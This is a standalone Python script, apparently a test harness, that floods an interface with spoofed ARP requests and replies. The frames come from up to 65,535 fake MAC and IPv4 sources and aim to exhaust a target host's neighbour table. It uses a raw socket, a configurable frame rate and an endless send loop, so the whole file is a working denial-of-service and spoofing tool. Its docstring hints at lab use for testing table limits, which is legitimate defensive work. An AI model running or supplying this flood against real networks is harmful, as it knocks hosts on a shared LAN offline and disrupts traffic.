#!/usr/bin/env python3
"""Sends a flood of spoofed ARP requests and replies out of one interface.

usage: arp_flood.py IFNAME TARGET_IP SOURCES [--rate FRAMES_PER_S]

Every frame claims a different source: source i is 10.200.x.y behind MAC
02:fe:00:00:x:y (x.y = i), asking for (request) or answering (reply, to
TARGET_IP's broadcast) TARGET_IP, the address whose neighbour table is under
attack. Sends all SOURCES requests and then replies, prints "round N" after
each full round, and goes on (the same sources again: re-sending must not
keep a table full) until it is killed. A raw AF_PACKET socket, so it needs
root (run it in the namespace of the interface); no scapy.
"""

import argparse
import socket
import struct
import sys
import time

ETH_P_ARP = 0x0806
BROADCAST = b"\xff" * 6


def source(i):
    """The spoofed (MAC, IPv4) of source number i."""
    return bytes([0x02, 0xFE, 0, 0, (i >> 8) & 0xFF, i & 0xFF]), bytes([10, 200, (i >> 8) & 0xFF, i & 0xFF])


def arp_frame(op, sender_mac, sender_ip, target_ip):
    """An Ethernet ARP frame (RFC 826), padded to the 60-byte minimum."""
    eth = BROADCAST + sender_mac + struct.pack("!H", ETH_P_ARP)
    target_mac = b"\x00" * 6 if op == 1 else BROADCAST
    arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, op) + sender_mac + sender_ip + target_mac + target_ip
    return (eth + arp).ljust(60, b"\x00")


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("ifname")
    ap.add_argument("target_ip")
    ap.add_argument("sources", type=int)
    ap.add_argument("--rate", type=int, default=20000, help="frames per second (paced in bursts of 100)")
    args = ap.parse_args()
    if args.sources > 0xFFFF:
        sys.exit("at most 65535 sources")
    target = socket.inet_aton(args.target_ip)
    frames = []
    for op in (1, 2):  # requests, then replies
        for i in range(args.sources):
            mac, ip = source(i)
            frames.append(arp_frame(op, mac, ip, target))
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((args.ifname, 0))
    burst = 100
    pause = burst / args.rate
    rounds = 0
    next_burst = time.monotonic()
    while True:
        for at in range(0, len(frames), burst):
            for f in frames[at:at + burst]:
                s.send(f)
            next_burst += pause
            delay = next_burst - time.monotonic()
            if delay > 0:
                time.sleep(delay)
        rounds += 1
        print(f"round {rounds}: {len(frames)} frames", flush=True)


if __name__ == "__main__":
    main()
